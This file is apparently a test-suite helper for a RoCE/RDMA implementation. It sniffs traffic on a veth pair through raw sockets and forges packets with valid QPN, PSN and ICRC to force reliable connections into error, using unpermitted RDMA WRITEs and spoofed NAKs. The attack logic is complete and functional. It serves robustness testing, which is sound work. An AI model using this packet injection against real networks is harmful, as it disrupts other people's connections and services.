"""An attacker on the veth pair, who puts the RC connections of the wire into error, one after the
other.

    python -m tests.rxe.inside.attacker NETDEV_A NETDEV_B

It sees every frame and sends its own with right addresses, QPN, PSN and ICRC, none of which is
secret. It kills every second connection by a request that the target refuses (the next PSN, an RDMA
WRITE where none is permitted), and the others by a NAK of an unacknowledged packet. It waits until
data flows on a connection, and attacks until another connection replaces it. It ends at the end of
its input, and prints how many frames it sent.
"""

from __future__ import annotations

import select
import socket
import struct
import sys
import zlib
from collections.abc import Iterable

from srdma.inspect import roce

WARM = 16  # SENDs of a connection before it is attacked

_ETHERNET, _IP, _UDP = 14, 20, 8
_HEADERS = _ETHERNET + _IP + _UDP
_WRITE_ONLY, _ACKNOWLEDGE = 0x0A, 0x11
_NAK_REMOTE_OPERATIONAL = 0x63
_RETH = struct.pack(">QII", 0x1000, 0x1234, 0)
_RC_SENDS = range(0x06)


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _icrc(ip: bytes, udp: bytes, packet: bytes) -> bytes:
    """The ICRC of IBTA annex A17: fields that routers change count as ones."""
    masked = bytearray(b"\xff" * 8 + ip + udp + packet)
    for at in (8 + 1, 8 + 8, 8 + 10, 8 + 11, 8 + _IP + 6, 8 + _IP + 7, 8 + _IP + _UDP + 4):
        masked[at] = 0xFF
    return zlib.crc32(masked).to_bytes(4, "little")


def forge(like: bytes, opcode: int, qpn: int, psn: int, headers: bytes) -> bytes:
    """Makes a frame with the addresses of `like`."""
    packet = struct.pack(">BBHII", opcode, 0, 0xFFFF, qpn, psn & 0xFFFFFF) + headers
    length = _UDP + len(packet) + 4
    ip = bytearray(like[_ETHERNET : _ETHERNET + _IP])
    ip[2:4] = (_IP + length).to_bytes(2, "big")
    ip[10:12] = bytes(2)
    ip[10:12] = _checksum(ip).to_bytes(2, "big")
    ports = like[_ETHERNET + _IP : _ETHERNET + _IP + 4]
    udp = ports + length.to_bytes(2, "big") + bytes(2)
    return like[:_ETHERNET] + ip + udp + packet + _icrc(bytes(ip), udp, packet)


class Side:
    """The newest SEND and the newest ACK from one end."""

    def __init__(self, netdev: str) -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.socket.bind((netdev, 0))
        self.send: tuple[bytes, roce.Frame] | None = None
        self.ack: tuple[bytes, roce.Frame] | None = None


class Attacker:
    def __init__(self, netdevs: list[str]) -> None:
        self._sides = [Side(netdev) for netdev in netdevs]
        self._sniffer = roce.Sniffer(netdevs[0])
        self._qpn = -1  # B's QPN of the attacked connection
        self._seen = 0
        self._connections = 0
        self.sent = 0

    def fileno(self) -> int:
        return self._sniffer.fileno()

    def look(self) -> None:
        """Processes captured frames, and attacks a connection that is due."""
        if self._learn(self._sniffer.take()) and self._seen >= WARM:
            self._strike()

    def _learn(self, raw: Iterable[bytes]) -> bool:
        """True if there were new SENDs of A. Only they trigger an attack, because the attacker also
        captures its own frames."""
        seen = self._seen
        for one in raw:
            frame = roce.parse(one)
            if frame is None:
                continue
            side = self._sides[one[_ETHERNET + 15] - 1]  # last byte of the source address
            if frame.opcode == _ACKNOWLEDGE:
                side.ack = one, frame
            elif frame.opcode in _RC_SENDS:
                side.send = one, frame
                self._count(side, frame)
        return self._seen != seen

    def _count(self, side: Side, frame: roce.Frame) -> None:
        if side is not self._sides[0]:
            return
        qpn = frame.flow[2]
        if qpn != self._qpn:
            self._qpn, self._seen = qpn, 0
            self._connections += 1
        self._seen += 1

    def _strike(self) -> None:
        a, b = self._sides
        if a.send is None or b.ack is None:
            return
        like, send = a.send
        if self._connections % 2:
            frame = forge(like, _WRITE_ONLY, send.flow[2], send.psn + 1, _RETH)
            a.socket.send(frame)
        else:
            like, ack = b.ack
            nak = struct.pack(">I", _NAK_REMOTE_OPERATIONAL << 24)
            b.socket.send(forge(like, _ACKNOWLEDGE, ack.flow[2], send.psn, nak))
        self.sent += 1


def main(netdevs: list[str]) -> None:
    attacker = Attacker(netdevs)
    print("up", flush=True)
    while sys.stdin not in select.select([sys.stdin, attacker], [], [])[0]:
        attacker.look()
    print(attacker.sent, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
